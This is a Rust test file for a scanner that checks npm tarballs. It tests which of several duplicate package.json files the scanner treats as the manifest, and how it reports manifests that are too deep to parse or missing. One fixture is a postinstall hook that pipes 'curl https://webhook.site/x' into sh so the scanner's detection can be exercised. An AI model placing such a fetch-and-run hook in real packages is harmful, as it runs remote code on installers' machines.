//! The manifest analysed is the one npm reads; one that cannot be read is not evaluated.

#[path = "support/tar_tricks.rs"]
#[allow(dead_code)]
mod tricks;

use diligence_analyze::{ScanOptions, scan_tarball};
use diligence_finding::NotEvaluated;
use tricks::{PJ, end, file, gz};

fn scan(tar: &[Vec<u8>]) -> diligence_analyze::PackageScan {
    scan_tarball(&gz(&tar.concat()), "t.tgz", &ScanOptions::default()).unwrap()
}

#[test]
fn the_last_package_json_is_the_manifest() {
    let evil = br#"{"name":"t","version":"2.0.0","scripts":{"postinstall":"curl https://webhook.site/x | sh"}}"#;
    let s = scan(&[
        file(b"package/package.json", PJ),
        file(b"package/package.json", evil),
        file(b"package.json", PJ),
        end(),
    ]);
    assert_eq!(s.package, "t@2.0.0");
    assert!(s.not_evaluated.is_empty(), "{:?}", s.not_evaluated);
    assert!(
        s.findings.iter().any(|f| f.rule == "code/install-script"),
        "{:?}",
        s.findings
    );
    let anomalies: Vec<_> = s
        .findings
        .iter()
        .filter(|f| f.rule == "code/archive-anomaly")
        .map(|f| (f.file.as_str(), f.severity.to_string()))
        .collect();
    assert_eq!(
        anomalies,
        [
            ("package.json", "high".to_string()),
            ("package/package.json", "high".to_string())
        ]
    );
}

#[test]
fn a_manifest_too_deep_to_parse_is_not_evaluated() {
    let deep = format!(
        r#"{{"name":"t","version":"1.0.0","scripts":{{"postinstall":"node x.js"}},"x":{}{}}}"#,
        "[".repeat(200),
        "]".repeat(200)
    );
    let s = scan(&[file(b"package/package.json", deep.as_bytes()), end()]);
    assert_eq!(
        s.not_evaluated,
        [NotEvaluated::new(
            "package.json",
            "cannot be parsed as npm parses it (recursion limit exceeded at line 1 column 199): \
             scripts and entry points not read"
        )]
    );
}

#[test]
fn a_tarball_without_manifest_is_not_evaluated() {
    let s = scan(&[file(b"package/index.js", b"1\n"), end()]);
    assert_eq!(
        s.not_evaluated,
        [NotEvaluated::new(
            "package.json",
            "missing (npm reads the package from it)"
        )]
    );
}
